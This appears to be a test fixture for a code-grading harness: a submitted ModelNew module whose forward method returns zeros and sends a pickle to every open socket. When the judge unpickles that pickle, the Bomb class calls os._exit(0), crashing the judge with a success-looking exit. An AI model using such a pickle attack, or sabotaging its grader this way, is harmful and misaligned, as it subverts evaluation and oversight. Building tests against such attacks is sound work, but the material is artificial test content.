# expect: crashed at check
"""Sends the judge a pickle that would end whoever unpickles it."""
import os
import pickle
import stat

import torch


def send(body):
    """Write one message to every socket that this process holds."""
    for fd in range(3, 256):
        if os.path.exists(f"/dev/fd/{fd}") and stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, len(body).to_bytes(8, "little") + body)


class Bomb:
    def __reduce__(self):
        return os._exit, (0,)


class ModelNew(torch.nn.Module):
    def __init__(self, columns):
        super().__init__()
        self.weight = torch.nn.Parameter(torch.ones(columns))

    def forward(self, x):
        send(pickle.dumps(Bomb()))
        return torch.zeros_like(x)
